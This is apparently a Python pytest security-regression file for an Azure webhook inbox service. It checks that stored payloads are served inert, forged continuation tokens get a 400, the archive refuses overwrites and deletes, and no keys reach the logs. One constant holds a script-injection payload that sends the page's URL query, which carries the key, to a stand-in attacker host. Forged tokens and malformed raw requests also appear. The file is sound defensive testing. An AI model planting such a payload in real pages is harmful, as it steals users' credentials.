"""The security review's findings, each shown closed through the local host and stack (issue 16).

- A stored payload opened in a browser runs nothing: any sender-chosen type that could carry script
  is served as application/octet-stream, as a download, sandboxed, never sniffed; every answer of the
  app is nosniff.
- A continuation token the API did not issue is a 400 through the host, never a 500.
- The archive is create-only for the app's identity as Azure would decide it: creating and reading
  work, overwriting and deleting are refused (403), a redelivery still meets its stored record.
- The local host's log never holds a key: not in a request line it refused (`?code=`), not in a header;
  the log files and the state folder are the owner's alone, and so is the server's private key.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import socket
import stat
import time
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from azure.core.exceptions import HttpResponseError
from devstack.certs import ensure_certificates
from devstack.pytest_plugin import StartStack
from devstack.testing import StackInfo

from tests.integration.conftest import MintedCredential
from tests.integration.inbox_api import Inbox, assert_problem, new_id

SCRIPT = b"<script>fetch('https://attacker.example/?k='+location.search)</script>"
INERT = {"Content-Disposition": "attachment", "Content-Security-Policy": "sandbox", "X-Content-Type-Options": "nosniff"}


@pytest.mark.parametrize(
    ("sent", "served"),
    [
        ("text/html", "application/octet-stream"),
        ("image/svg+xml", "application/octet-stream"),
        ("application/xhtml+xml; charset=utf-8", "application/octet-stream"),
        ("text/javascript", "application/octet-stream"),
        ("application/json", "application/json"),
        ("application/vnd.github+json", "application/vnd.github+json"),
        ("text/plain; charset=utf-8", "text/plain; charset=utf-8"),
    ],
)
def test_a_stored_payload_is_served_inert(inbox: Inbox, sent: str, served: str) -> None:
    event_id = new_id()
    assert inbox.deliver("github", SCRIPT, event_id=event_id, content_type=sent).status_code == 202
    # As the README shows it: the key in the URL, where a script on the app's origin could read it.
    response = inbox.http.get(
        inbox.url(f"webhooks/github/events/{event_id}/payload"), params={"code": inbox.stack.env.function_key}
    )
    assert response.status_code == 200
    assert response.content == SCRIPT
    assert response.headers["Content-Type"] == served
    assert response.headers["X-Payload-Content-Type"] == sent
    assert {name: response.headers.get(name) for name in INERT} == INERT


def test_every_answer_of_the_app_is_nosniff(inbox: Inbox) -> None:
    answers = [
        inbox.get("health", key="none"),
        inbox.get("webhooks/github/events"),
        inbox.get("webhooks/github/events/no-such-event"),
        inbox.get("webhooks/github/events", params={"limit": "0"}),
        inbox.deliver("github", b"{}", signature="sha256=" + "0" * 64),
    ]
    assert [a.status_code for a in answers] == [200, 200, 404, 400, 401]
    assert all(a.headers.get("X-Content-Type-Options") == "nosniff" for a in answers)


def forged_token(cosmos_token: str, limit: int) -> str:
    """A token with the query's fingerprint as the API computed it before it was keyed: a bare hash."""
    fingerprint = hashlib.sha256(json.dumps(["github", None, None, None, limit]).encode()).hexdigest()[:16]
    return base64.urlsafe_b64encode(json.dumps({"t": cosmos_token, "q": fingerprint}).encode()).decode()


@pytest.mark.parametrize("cosmos_token", ["a\r\nb", "\x00", '{"token":"x","range":{"min":"","max":"FF"}}'])
def test_a_forged_continuation_is_a_400(inbox: Inbox, cosmos_token: str) -> None:
    response = inbox.get("webhooks/github/events", params={"limit": "5", "continuation": forged_token(cosmos_token, 5)})
    assert_problem(response, 400, "bad-request")


# ---- the archive, as the app's identity -------------------------------------------------------------


def as_app(stack: StackInfo) -> Inbox:
    """The data account as the app's own identity sees it."""
    return Inbox(stack, MintedCredential(stack, "app"))


def code(error: HttpResponseError) -> object:
    return getattr(error, "error_code", None)  # set by azure-storage-blob, not declared by azure-core


@pytest.fixture(scope="module")
def own_stack(start_stack: StartStack) -> StackInfo:
    """A stack of its own: the refusals provoked here must not count against the session's app, whose
    every RBAC decision test_infra_enforced.py expects to be an allowed one."""
    return start_stack()


def test_the_app_may_create_and_read_in_the_archive_but_not_replace_or_delete(own_stack: StackInfo) -> None:
    events = as_app(own_stack).container(own_stack.settings["EVENTS_CONTAINER"])
    name = f"hardening/{new_id()}"
    events.upload_blob(name, b"first", overwrite=False)
    assert events.download_blob(name).readall() == b"first"
    with pytest.raises(HttpResponseError) as overwrite:
        events.upload_blob(name, b"second", overwrite=True)
    assert (overwrite.value.status_code, code(overwrite.value)) == (403, "UnauthorizedBlobOverwrite")
    with pytest.raises(HttpResponseError) as create_again:
        events.upload_blob(name, b"second", overwrite=False)
    assert create_again.value.status_code in (403, 409)
    with pytest.raises(HttpResponseError) as delete:
        events.delete_blob(name)
    assert (delete.value.status_code, code(delete.value)) == (403, "AuthorizationPermissionMismatch")
    assert events.download_blob(name).readall() == b"first"


def test_the_app_still_rewrites_a_digest(own_stack: StackInfo) -> None:
    digests = as_app(own_stack).container(own_stack.settings["DIGESTS_CONTAINER"])
    name = f"hardening-{new_id()}.json"
    digests.upload_blob(name, b"{}", overwrite=True)
    digests.upload_blob(name, b'{"again": true}', overwrite=True)
    assert digests.download_blob(name).readall() == b'{"again": true}'


def test_a_redelivery_meets_its_record_under_the_create_only_role(inbox: Inbox) -> None:
    event_id = new_id()
    first = inbox.deliver("github", b'{"n": 1}', event_id=event_id)
    again = inbox.deliver("github", b'{"n": 1}', event_id=event_id)
    other = inbox.deliver("github", b'{"n": 2}', event_id=event_id)
    assert (first.status_code, again.status_code) == (202, 200)
    assert again.json() == first.json()
    assert_problem(other, 409, "delivery-conflict")


# ---- the local stack's hygiene --------------------------------------------------------------------------


def raw_request(stack: StackInfo, request_line: bytes) -> bytes:
    address = urlsplit(stack.env.host_url)
    with socket.create_connection((address.hostname or "127.0.0.1", address.port or 80), timeout=10) as connection:
        connection.sendall(request_line + b"Host: localhost\r\n\r\n")
        return connection.recv(4096)


def test_no_key_reaches_the_hosts_log_from_a_request_it_refused(inbox: Inbox) -> None:
    stack = inbox.stack
    key, master = stack.env.function_key, stack.env.master_key
    malformed = f"GET /api/webhooks/github/events?code={key} HTTP/1.1 extra\r\n".encode()
    too_long = f"GET /api/health?code={master}&pad={'x' * 9000} HTTP/1.1\r\n".encode()
    bad_header = f"GET /api/health?code={key} HTTP/1.1\r\nx-functions-key: {master}\r\nBad Header\r\n".encode()
    assert raw_request(stack, malformed).startswith(b"HTTP/1.")
    assert b" 414 " in raw_request(stack, too_long).split(b"\r\n")[0]
    raw_request(stack, bad_header)
    assert inbox.get("webhooks/github/events").status_code == 200  # a key in a header, on a request served
    log_dir = Path(stack.env.devstack["logDir"])
    wait_for_line(log_dir / "functions.log", b"Rejected a malformed request")
    for log in log_dir.glob("*.log"):
        text = log.read_bytes()
        assert key.encode() not in text, f"{log.name} holds the function key"
        assert master.encode() not in text, f"{log.name} holds the master key"
        assert b"code=" + key[:8].encode() not in text


def wait_for_line(path: Path, needle: bytes, timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while needle not in path.read_bytes():
        assert time.monotonic() < deadline, f"{path.name} never logged {needle!r}"
        time.sleep(0.1)


def owner_only(path: Path) -> bool:
    return stat.S_IMODE(path.stat().st_mode) & 0o077 == 0


def test_the_state_folder_and_its_logs_are_the_owners_alone(inbox: Inbox) -> None:
    stack = inbox.stack
    log_dir = Path(stack.env.devstack["logDir"])
    logs = sorted(log_dir.glob("*.log"))
    assert logs, "the stack wrote no log"
    for path in (stack.state_dir, log_dir, *logs, stack.state_dir / "env.json"):
        assert owner_only(path), f"{path} is {oct(stat.S_IMODE(path.stat().st_mode))}"


def test_the_servers_private_key_is_never_readable_by_others(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Owner-only from its first byte: a key written with the usual mode and chmod-ed afterwards can be
    opened by another user in between."""
    modes: dict[str, int] = {}
    real_open = os.open

    def recording_open(path: str | os.PathLike[str], flags: int, mode: int = 0o777, *args: object) -> int:
        fd = real_open(path, flags, mode)
        if flags & os.O_CREAT:
            modes[Path(path).name] = stat.S_IMODE(os.fstat(fd).st_mode)
        return fd

    monkeypatch.setattr(os, "open", recording_open)
    paths = ensure_certificates(tmp_path / "certs")
    created = [mode for name, mode in modes.items() if name.startswith(paths.server_key.name)]
    assert created, "the private key was not created through os.open with a mode of its own"
    assert all(mode & 0o077 == 0 for mode in created), [oct(m) for m in created]
    assert owner_only(paths.server_key)
    assert owner_only(paths.folder)
